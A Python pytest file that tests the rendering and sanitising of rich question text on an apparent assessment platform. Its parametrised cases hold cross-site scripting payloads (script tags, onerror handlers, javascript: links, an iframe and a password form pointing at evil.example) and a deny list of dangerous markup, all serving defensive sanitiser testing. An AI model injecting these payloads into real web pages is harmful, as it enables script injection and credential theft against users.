"""Texts of questions: shown without harm, read without markup, stored as they were written."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assessments.item_types.rich import EMPTY, Rich, TextFormat, to_html, visible
from tests.support.hostile import REFLECTED, TEXTS
from tests.support.texts_of_questions import examples, riches

FORMATS = list(TextFormat)


@pytest.mark.parametrize(
    ("rich", "markup", "words"),
    [
        (Rich("One <b>two</b>\nthree\n\nfour"), "<p>One &lt;b&gt;two&lt;/b&gt;<br>three</p><p>four</p>", None),
        (Rich("One <b>two</b>\nthree\n\nfour"), None, "One <b>two</b> three four"),
        (Rich("One *two*\n\n- a\n- b", TextFormat.MARKDOWN), None, "One two a b"),
        (Rich("One *two*", TextFormat.MARKDOWN), "<p>One <em>two</em></p>\n", "One two"),
        (Rich("<b>x</b>", TextFormat.MARKDOWN), "<p>&lt;b&gt;x&lt;/b&gt;</p>\n", "<b>x</b>"),
        (Rich("<p>One</p><p>two<br>three</p>", TextFormat.HTML), None, "One two three"),
        (Rich("One\n<b>two</b>", TextFormat.HTML), "One\n<b>two</b>", "One two"),
        (Rich("One\n<b>two</b>", TextFormat.MOODLE), "One<br><b>two</b>", "One two"),
        (Rich("5 &lt; 6 &amp; 7&nbsp;m", TextFormat.HTML), None, "5 < 6 & 7 m"),
        (Rich('A <img src="picture:a.png" alt="scale"> b', TextFormat.HTML), None, "A scale b"),
        (Rich("a<sup>2</sup>", TextFormat.HTML), "a<sup>2</sup>", "a2"),
    ],
    ids=range(11),
)
def test_text_is_shown_and_read_in_its_format(rich: Rich, markup: str | None, words: str | None) -> None:
    if markup is not None:
        assert to_html(rich) == markup
    if words is not None:
        assert visible(rich) == str(rich) == words


HARM = ("<script", "<style", "<iframe", "<form", "<input", "<svg", "<object", " on", "javascript:", "data:", " style=")


@pytest.mark.parametrize("written", FORMATS)
@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<style>*{display:none}</style>",
        "<iframe src='https://evil.example/'></iframe>",
        "<form action='https://evil.example/'><input name=password></form>",
        "<img src=x onerror=alert(1) alt=x>",
        "<img src='data:image/svg+xml,<svg onload=alert(1)>' alt=x>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<p style='position:fixed'>x</p>",
        "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<h3 id=main onclick=alert(1)>x</h3>",
        "[x](javascript:alert(1))",
        "![x](data:image/png;base64,AAAA)",
        "<<b>script>alert(1)<</b>/script>",
    ],
    ids=range(15),
)
def test_markup_that_can_act_is_gone_from_what_is_shown(text: str, written: TextFormat) -> None:
    shown = to_html(Rich(text, written))
    # What was escaped is words: look at tags alone.
    tags = [part.partition(">")[0] for part in ("x" + shown).split("<")[1:]]

    assert [tag for tag in tags for harm in HARM if harm in f"<{tag}".lower()] == []


@pytest.mark.parametrize("written", FORMATS)
def test_hostile_texts_are_never_reflected(written: TextFormat) -> None:
    for text in TEXTS:
        shown = to_html(Rich(text, written))
        assert not any(hole in shown for hole in REFLECTED if hole.startswith("<s")), text


def test_headings_of_pages_are_not_for_questions() -> None:
    shown = to_html(Rich("<h1>One</h1><h2>Two</h2><h3>Three</h3>", TextFormat.HTML))

    assert shown == "OneTwo<h3>Three</h3>"


@examples(100)
@given(rich=riches())
def test_text_survives_its_json(rich: Rich) -> None:
    assert Rich.from_json(rich.to_json()) == rich


@pytest.mark.parametrize("written", FORMATS)
@examples(100)
@given(text=st.text(max_size=60))
def test_any_text_can_be_shown_and_read(text: str, written: TextFormat) -> None:
    rich = Rich(text, written)

    assert "<script" not in to_html(rich).lower()
    assert visible(rich) == " ".join(visible(rich).split())


def test_text_of_blanks_is_none() -> None:
    assert (bool(EMPTY), bool(Rich(" \n")), bool(Rich("0"))) == (False, False, True)


@pytest.mark.parametrize(
    "value",
    [None, 7, ["a"], {}, {"text": "a"}, {"text": 7, "format": "html"}, {"text": "a", "format": "odt"}],
    ids=repr,
)
def test_json_that_is_no_text_is_refused(value: object) -> None:
    with pytest.raises((TypeError, ValueError)):
        Rich.from_json(value)
